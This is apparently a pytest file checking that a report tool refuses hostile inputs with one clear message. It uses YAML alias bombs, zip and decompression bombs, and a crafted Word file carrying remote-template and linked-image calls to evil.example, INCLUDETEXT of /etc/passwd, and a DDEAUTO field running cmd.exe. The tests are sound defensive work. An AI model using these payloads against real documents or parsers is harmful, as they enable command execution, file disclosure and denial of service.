"""Hostile and careless files (issue #22: photos, params files, reference documents, system failures): each case is
built on the fly and the command run in a subprocess under a memory limit and a timeout; it ends in exit status 1
and one clear message naming the file, never a traceback, within the limits of tjsl_eval/common/limits.py."""

from __future__ import annotations

import dataclasses
import errno
import io
import os
import re
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import numpy as np
import pptx
import pytest
from click.testing import CliRunner
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image

from tjsl_eval.cli import main
from tjsl_eval.common import limits
from tjsl_eval.inputs.sources import SAMPLE_PATH
from tjsl_eval.render import images, office
from tjsl_eval.render.references import sanitized_reference

MEMORY = 1_500_000_000  # bytes of address space each command may use
TIMEOUT = 60  # seconds
COMMAND = [sys.executable, "-m", "tjsl_eval"]


def limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def tjsl_eval(*args: object) -> subprocess.CompletedProcess:
    """The command run in a subprocess under MEMORY and TIMEOUT."""
    return subprocess.run(
        [*COMMAND, *map(str, args)],
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
        preexec_fn=limited,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )


def refused(result: subprocess.CompletedProcess, *expected: str) -> str:
    """Assert one clear refusal (exit 1, no traceback, the expected words) and return the output."""
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output and "Error:" not in output.replace("InputError", ""), output
    for words in expected:
        assert words in output, output
    return output


# --- Photos ---


@pytest.fixture
def sample_copy(tmp_path) -> Path:
    """The bundled sample (a folder of CSV files and its photos), in a folder of its own."""
    folder = tmp_path / "sample"
    shutil.copytree(SAMPLE_PATH, folder)
    return folder


def first_photo(folder: Path) -> tuple[Path, int]:
    """The sample's first photo file and its Excel row in sheet dokumentasi."""
    line = (folder / "dokumentasi.csv").read_text(encoding="utf-8").splitlines()[1]
    return folder / line.split(",")[2], 2


def test_a_photo_over_the_size_limit_is_refused_before_it_is_read(sample_copy):
    photo, row = first_photo(sample_copy)
    os.truncate(photo, 2 * 1024**3)  # a sparse 2 GB file: no disk used
    output = refused(tjsl_eval("validate", sample_copy), "dokumentasi", f"row {row}", "50 MB", "docs/trust.md")
    assert "2,147 MB" in output


def test_a_fifo_in_place_of_a_photo_is_refused_without_waiting(sample_copy):
    photo, row = first_photo(sample_copy)
    photo.unlink()
    os.mkfifo(photo)
    refused(tjsl_eval("validate", sample_copy), "dokumentasi", f"row {row}", "named pipe (FIFO)")


@pytest.mark.parametrize(
    "path, expected",
    [("dokumentasi/a\0b.jpg", "U+0000"), ("dokumentasi/" + "a" * 300 + ".jpg", "at most 255 bytes")],
)
def test_a_photo_path_with_a_nul_or_a_300_character_name_is_a_located_problem(sample_copy, path, expected):
    table = sample_copy / "dokumentasi.csv"
    lines = table.read_text(encoding="utf-8").splitlines()
    fields = lines[1].split(",")
    fields[2] = path
    lines[1] = ",".join(fields)
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    refused(tjsl_eval("validate", sample_copy), "dokumentasi", "row 2", expected)


def test_a_decompression_bomb_photo_is_a_message(sample_copy):
    photo, row = first_photo(sample_copy)
    buffer = io.BytesIO()
    Image.new("L", (20_000, 10_000)).save(buffer, "PNG")  # 200 megapixels in about 200 KB
    photo.with_suffix(".png").write_bytes(buffer.getvalue())
    table = sample_copy / "dokumentasi.csv"
    table.write_text(table.read_text(encoding="utf-8").replace(photo.name, photo.with_suffix(".png").name, 1))
    refused(tjsl_eval("validate", sample_copy), "dokumentasi", f"row {row}", "100 megapixels")


def grey_levels(image: Image.Image) -> list[int]:
    """The grey levels of a processed photo's pixels, row by row."""
    if image.mode in ("I", "F"):  # no photo format accepted holds them: the conversion step itself is checked
        return [int(level) for level in np.asarray(images._eight_bit(image)).ravel()]
    processed = images.process_image(png_bytes(image))
    decoded = Image.open(io.BytesIO(processed.data)).convert("RGB")
    pixels = np.asarray(decoded).reshape(-1, 3)
    assert (pixels.max(axis=1) - pixels.min(axis=1) <= 2).all()  # grey stays grey
    return [int(round(value)) for value in pixels.mean(axis=1)]


def png_bytes(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


SIXTEEN_BIT = np.array([[0, 257 * 64, 257 * 128, 257 * 200, 65535]], dtype=np.uint16)
EXPECTED = [0, 64, 128, 200, 255]


def test_a_16_bit_grey_png_keeps_its_grey_levels():
    image = Image.fromarray(SIXTEEN_BIT)
    assert image.mode == "I;16"
    assert Image.open(io.BytesIO(png_bytes(image))).mode == "I;16"  # as Pillow reads a 16-bit grey PNG
    assert grey_levels(image) == EXPECTED  # main gave [0, 255, 255, 255, 255]: almost white


@pytest.mark.parametrize(
    "image, expected",
    [
        (Image.fromarray(SIXTEEN_BIT.astype(np.int32)), EXPECTED),  # mode I: 16-bit levels
        (Image.fromarray(np.array([[-3.0, 0.4, 63.6, 128.0, 300.0]], dtype=np.float32)), [0, 0, 64, 128, 255]),
        (Image.fromarray(np.array([[0, 64, 128, 200, 255]], dtype=np.uint8)), EXPECTED),  # L
        (Image.fromarray(np.array([[False, True, False, True, True]])).convert("1"), [0, 255, 0, 255, 255]),
    ],
    ids=["I", "F", "L", "1"],
)
def test_unusual_grey_modes_give_the_expected_levels(image, expected):
    assert grey_levels(image) == expected


def test_cmyk_la_and_palette_with_transparency_are_converted_correctly():
    cmyk = Image.new("CMYK", (2, 1))
    cmyk.putpixel((0, 0), (0, 0, 0, 0))
    cmyk.putpixel((1, 0), (0, 0, 0, 255))
    jpeg = io.BytesIO()
    cmyk.save(jpeg, "JPEG", quality=100)
    decoded = Image.open(io.BytesIO(images.process_image(jpeg.getvalue()).data)).convert("L")
    assert [decoded.getpixel((0, 0)), decoded.getpixel((1, 0))] == pytest.approx([255, 0], abs=12)
    grey_alpha = Image.new("LA", (2, 1))
    grey_alpha.putpixel((0, 0), (100, 255))
    grey_alpha.putpixel((1, 0), (0, 0))  # transparent
    processed = Image.open(io.BytesIO(images.process_image(png_bytes(grey_alpha)).data))
    assert processed.mode == "RGBA" and processed.getpixel((0, 0)) == (100, 100, 100, 255)
    assert processed.getpixel((1, 0))[3] == 0
    palette = Image.new("P", (2, 1))
    palette.putpalette([0, 0, 0, 200, 10, 10])
    palette.putpixel((0, 0), 0)
    palette.putpixel((1, 0), 1)
    palette.info["transparency"] = 0
    processed = Image.open(io.BytesIO(images.process_image(png_bytes(palette)).data))
    assert processed.getpixel((0, 0))[3] == 0 and processed.getpixel((1, 0)) == (200, 10, 10, 255)


# --- Params files ---


def alias_bomb(key: str) -> str:
    """A params file of a few hundred bytes whose ``key`` expands to 9^9 (387 million) values."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]" for level in range(1, 10)]
    value = {"title": "*a9", "groups": "*a9", "methods": "{ikm: *a9}"}[key]
    return "\n".join(lines) + f"\n{key}: {value}\n"


@pytest.mark.parametrize("key", ["title", "groups", "methods"])
def test_a_yaml_alias_bomb_is_refused_quickly(tmp_path, key):
    params = tmp_path / "review.yaml"
    params.write_text(alias_bomb(key), encoding="utf-8")
    assert params.stat().st_size < 1000
    refused(tjsl_eval("status", params), str(params), "alias", f"{limits.MAX_YAML_NODES:,}")


def test_params_nested_too_deep_too_large_or_not_a_file_are_refused(tmp_path):
    deep = tmp_path / "deep.yaml"
    deep.write_text("title: " + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    refused(tjsl_eval("status", deep), str(deep), f"nested at most {limits.MAX_YAML_DEPTH} deep")
    large = tmp_path / "large.yaml"
    large.write_text("title: x\n" + "# padding\n" * 200_000, encoding="utf-8")
    refused(tjsl_eval("status", large), str(large), f"at most {limits.MAX_PARAMS_BYTES:,} bytes")
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    refused(tjsl_eval("status", fifo), str(fifo), "FIFO")


def test_aliases_within_the_limits_still_work(tmp_path):
    from tjsl_eval.inputs.params import read_yaml

    params = tmp_path / "review.yaml"
    params.write_text("base: &base {a: 1, b: [1, 2]}\ntitle: x\nmethods: *base\n", encoding="utf-8")
    assert read_yaml(params)["methods"] == {"a": 1, "b": [1, 2]}


# --- Reference documents ---

EVIL = "http://evil.example"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def add_field(paragraph, instruction: str, shown: str) -> None:
    """A complex field (begin, instruction, separate, result, end) at the end of ``paragraph``."""
    for kind, text in (("begin", None), (None, instruction), ("separate", None), (None, shown), ("end", None)):
        run = paragraph.add_run()
        if kind:
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), kind)
            run._r.append(mark)
        elif text == instruction:
            element = OxmlElement("w:instrText")
            element.text = text
            run._r.append(element)
        else:
            run.text = text


def hostile_reference(path: Path) -> Path:
    """A company template with an attached template URL, an external hyperlink to a file: path, a linked picture,
    INCLUDEPICTURE, INCLUDETEXT, DDE and LINK fields, and the page-number fields that must stay."""
    word = docx.Document()
    settings = word.settings
    template_id = word.part._settings_part.relate_to(f"{EVIL}/normal.dotm", ATTACHED_TEMPLATE, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), template_id)
    settings.element.insert(0, attached)
    header = word.sections[0].header
    paragraph = header.paragraphs[0]
    paragraph.text = "KOP SURAT "
    link_id = header.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    hyperlink = OxmlElement("w:hyperlink")
    hyperlink.set(qn("r:id"), link_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "tautan"
    run.append(text)
    hyperlink.append(run)
    paragraph._p.append(hyperlink)
    header.part.relate_to(f"{EVIL}/pixel.png", RT.IMAGE, is_external=True)  # a linked picture
    add_field(paragraph, f' INCLUDEPICTURE "{EVIL}/track.png" \\d ', "[gambar]")
    add_field(paragraph, ' INCLUDETEXT "file:///etc/passwd" ', "[teks]")
    footer = word.sections[0].footer.paragraphs[0]
    add_field(footer, ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', "!")
    add_field(footer, " PAGE ", "1")
    add_field(footer, " NUMPAGES ", "9")
    simple = OxmlElement("w:fldSimple")
    simple.set(qn("w:instr"), f' LINK Excel.Sheet.12 "{EVIL}/book.xlsx" "Sheet1" ')
    simple.append(OxmlElement("w:r"))
    footer._p.append(simple)
    word.save(path)
    return path


def package_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "\n".join(package.read(name).decode("utf-8") for name in package.namelist() if name.endswith("rels"))


def package_parts(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "\n".join(package.read(name).decode("utf-8", "replace") for name in package.namelist())


def fields(data: bytes) -> list[str]:
    """The instruction of every field in a package's parts."""
    text = package_parts(data)
    return re.findall(r"<w:instrText[^>]*>([^<]*)<", text) + re.findall(r'w:instr="([^"]*)"', text)


def test_a_hostile_reference_docx_is_stripped_of_links_and_fields(tmp_path):
    reference = hostile_reference(tmp_path / "kop.docx")
    original = reference.read_bytes()
    assert 'TargetMode="External"' in package_xml(original) and len(fields(original)) == 6
    removed = office.check_reference(reference, "docx")
    assert {line.split(": ", 1)[1].split(" ")[1] for line in removed if "external" in line} == {
        "attachedTemplate",
        "hyperlink",
        "image",
    }
    assert sorted(line.rsplit(" ", 1)[1] for line in removed if "field" in line) == [
        "DDEAUTO",
        "INCLUDEPICTURE",
        "INCLUDETEXT",
        "LINK",
    ]
    made = office.saved(office.open_reference(reference, "docx"))
    parts = package_parts(made)
    assert "External" not in package_xml(made) and "evil.example" not in parts and "/etc/passwd" not in parts
    assert "attachedTemplate" not in parts
    assert [field.strip() for field in fields(made)] == ["PAGE", "NUMPAGES"]
    word = docx.Document(io.BytesIO(made))
    assert word.sections[0].header.paragraphs[0].text == "KOP SURAT tautan[gambar][teks]"  # the shown text stays


@pytest.fixture(scope="module")
def sample_document():
    from tjsl_eval.inputs.workbook import load_workbook
    from tjsl_eval.render.report import GroupReport

    sample = load_workbook("sample")
    return GroupReport(sample.for_group("KDH-08"), "KDH-08", 2023, "id").document()


def test_no_link_or_field_of_a_hostile_reference_reaches_a_report(sample_document, tmp_path):
    from tjsl_eval.render.docx_report import docx_bytes
    from tjsl_eval.render.pptx_deck import pptx_bytes

    report = docx_bytes(sample_document, "f" * 64, hostile_reference(tmp_path / "kop.docx"))
    assert "External" not in package_xml(report) and "evil.example" not in package_parts(report)
    # the reference's TOC, PAGE and NUMPAGES, and the SEQ fields the writer numbers its own captions with
    assert {field.split()[0] for field in fields(report)} <= {"TOC", "PAGE", "NUMPAGES", "SEQ"}
    company = pptx.Presentation()
    layout = company.slide_layouts[5]
    layout.shapes[0].click_action.hyperlink.address = "file:///etc/passwd"
    layout.part.relate_to(f"{EVIL}/logo.png", RT.IMAGE, is_external=True)
    company.save(tmp_path / "company.pptx")
    assert "file:///etc/passwd" in package_xml((tmp_path / "company.pptx").read_bytes())
    deck = pptx_bytes(sample_document, "f" * 64, tmp_path / "company.pptx")
    assert "External" not in package_xml(deck) and "/etc/passwd" not in package_parts(deck)
    assert len(pptx.Presentation(io.BytesIO(deck)).slides) > 5


def test_a_clean_reference_is_used_unchanged(tmp_path):
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "KOP SURAT"
    word.save(tmp_path / "kop.docx")
    assert sanitized_reference(tmp_path / "kop.docx") == ((tmp_path / "kop.docx").read_bytes(), [])


def test_a_reference_with_a_zip_bomb_part_is_refused(tmp_path):
    word = docx.Document()
    buffer = io.BytesIO()
    word.save(buffer)
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("word/media/padding.bin", b"\0" * (limits.MAX_REFERENCE_PART_BYTES + 1))
    assert bomb.stat().st_size < 1_000_000
    with pytest.raises(office.ReferenceError, match="compressed more than 200 to 1"):
        office.check_reference(bomb, "docx")


def test_a_reference_with_a_huge_xml_part_is_refused_before_it_is_parsed(tmp_path, monkeypatch):
    from tjsl_eval.render import references

    word = docx.Document()
    word.save(tmp_path / "kop.docx")
    monkeypatch.setattr(references, "MAX_REFERENCE_XML_BYTES", 1000)  # the default template's styles.xml is larger
    with pytest.raises(office.ReferenceError, match="bytes of XML; expected at most 1,000"):
        office.check_reference(tmp_path / "kop.docx", "docx")


# --- System failures: one message, exit 1 ---


@pytest.mark.parametrize(
    "failure, expected",
    [
        (OSError(errno.ENOSPC, "No space left on device", "/out/.metrics.json.tmp"), "the disk is full"),
        (OSError(errno.EROFS, "Read-only file system", "/out/index.html"), "read-only disk"),
        (OSError(errno.EACCES, "Permission denied", "/out/run.log"), "permission denied"),
        (OSError(errno.ENAMETOOLONG, "File name too long", "/out/x"), "too long"),
        (IsADirectoryError(errno.EISDIR, "Is a directory", "/out/book.xlsx"), "a folder where a file"),
        (MemoryError(), "not enough memory"),
    ],
)
def test_system_failures_are_one_message_naming_the_file(monkeypatch, failure, expected):
    def fail(source):
        raise failure

    monkeypatch.setattr("tjsl_eval.inputs.workbook.load_workbook", fail)
    result = CliRunner().invoke(main, ["validate", "book.xlsx"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert expected in result.output and "Traceback" not in result.output
    assert (failure.filename if isinstance(failure, OSError) else "book.xlsx") in result.output
    assert isinstance(failure, OSError) or "docs/trust.md" in result.output


# --- Writers: no text makes them fail ---

CONTROL = "a\x00b\x1b[31mc\x0bd\ufffee\ud800f"
CLEANED = "a\ufffdb\ufffd[31mc\ufffdd\ufffde\ufffdf"


def with_control_characters(value):
    """``value`` (a report's blocks) with CONTROL appended to every paragraph, table cell and title."""
    from tjsl_eval.render.document import Paragraph, Table

    if isinstance(value, Paragraph):
        return dataclasses.replace(value, text=value.text + CONTROL)
    if isinstance(value, Table):
        rows = [[cell + CONTROL if isinstance(cell, str) else cell for cell in row] for row in value.rows]
        return dataclasses.replace(value, rows=rows)
    if dataclasses.is_dataclass(value):
        fields = dataclasses.fields(value)
        changes = {f.name: with_control_characters(getattr(value, f.name)) for f in fields if f.init}
        if "title" in changes and isinstance(changes["title"], str):
            changes["title"] += CONTROL
        return dataclasses.replace(value, **changes)
    if isinstance(value, list):
        return [with_control_characters(item) for item in value]
    return value


def test_control_characters_never_make_a_writer_fail(sample_document, tmp_path):
    import openpyxl

    from tjsl_eval.render.docx_report import docx_bytes
    from tjsl_eval.render.exports import write_xlsx_table
    from tjsl_eval.render.pptx_deck import pptx_bytes

    hostile = with_control_characters(sample_document)
    word = docx.Document(io.BytesIO(docx_bytes(hostile, "f" * 64)))
    assert any(CLEANED in paragraph.text for paragraph in word.paragraphs)
    deck = pptx.Presentation(io.BytesIO(pptx_bytes(hostile, "f" * 64)))
    assert len(deck.slides) > 5
    write_xlsx_table(tmp_path / "fgd_register.xlsx", "register", ["kolom" + CONTROL], [["=1+1" + CONTROL]])
    sheet = openpyxl.load_workbook(tmp_path / "fgd_register.xlsx").active
    assert [sheet["A1"].value, sheet["A2"].value] == ["kolom" + CLEANED, "'=1+1" + CLEANED]


def test_a_full_disk_during_an_atomic_write_names_the_file_and_leaves_nothing(tmp_path, monkeypatch):
    from tjsl_eval.common import files

    class FullDisk(io.BytesIO):
        def write(self, data):
            raise OSError(errno.ENOSPC, "No space left on device")  # as a real write: no file named

    opened = files.os.fdopen
    monkeypatch.setattr(files.os, "fdopen", lambda handle, mode: opened(handle, mode).close() or FullDisk())
    with pytest.raises(OSError) as raised:
        files.write_atomic(tmp_path / "metrics.json", "{}")
    assert raised.value.errno == errno.ENOSPC and raised.value.filename == str(tmp_path / "metrics.json")
    assert list(tmp_path.iterdir()) == []


def test_the_pixel_limit_is_ours_not_pillows_warning(monkeypatch):
    from PIL import Image as PillowImage

    from tjsl_eval.inputs import photos

    monkeypatch.setattr(PillowImage, "MAX_IMAGE_PIXELS", 1000)  # Pillow warns over 1,000 and refuses over 2,000
    monkeypatch.setattr(photos, "MAX_PHOTO_PIXELS", 1500)
    photos.check_image(png_bytes(Image.new("RGB", (30, 50))))  # 1,500: within our limit, despite Pillow's warning
    with pytest.raises(photos.PhotoError, match="this one has 40 × 40 pixels"):
        photos.check_image(png_bytes(Image.new("RGB", (40, 40))))
    with pytest.raises(photos.PhotoError, match="this one has over 0 megapixels"):
        photos.check_image(png_bytes(Image.new("RGB", (50, 50))))  # over Pillow's refusal: refused as it opens
